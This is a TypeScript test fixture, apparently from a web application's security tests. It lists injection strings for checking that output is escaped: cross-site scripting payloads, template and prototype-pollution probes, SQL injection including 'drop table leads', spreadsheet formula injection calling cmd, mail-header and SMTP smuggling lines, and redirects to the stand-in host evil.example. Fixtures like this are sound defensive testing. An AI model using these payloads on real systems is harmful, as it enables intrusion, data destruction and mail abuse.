/**
 * Hostile texts for every kind of output. As a script, each sets `injected` or requests a missing file. The others are
 * formulas, mail headers, queries and control sequences.
 */
const run = 'window.injected=1';

const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<object data="javascript:${run}"></object>`,
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<form action="https://evil.example/"><button>Send</button></form>',
  '<style>*{display:none}</style>',
  '<elevenlabs-convai agent-id="agent_evil_0001"></elevenlabs-convai>',
];

const attributes = [
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `\` onerror=${run} \``,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  '//evil.example/x',
];

const scripts = [
  `";${run};//`,
  `';${run};//`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is a template
  '${7*7}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '{"__proto__":{"injected":1}}',
];

const stores = [
  "'; drop table leads; --",
  "' or '1'='1",
  '$1; select pg_sleep(9)',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3',
  '@SUM(1+9)*cmd',
  '\t=1+1',
  'Ada\r\nBcc: everybody@evil.example',
  'Ada\nSubject: another one\n\nAnother body',
  '"Ada" <ada@evil.example>, bcc@evil.example',
  'Ada\r\n.\r\nMAIL FROM:<evil@evil.example>',
  '\u202Egnp.exe',
  'a\u2028b\u2029c',
];

/** The beginning of a comment comes last, because it hides what follows it in one field. */
export const injections: readonly string[] = [...markup, ...attributes, ...scripts, ...stores, '<!--'];

/** Joins as many texts as fit into one field, so that few pages show all. */
export function inBunches(size: number): string[] {
  const bunches = Math.ceil(injections.length / size);
  return Array.from({ length: bunches }, (_, index) => injections.slice(index * size, (index + 1) * size).join(' '));
}
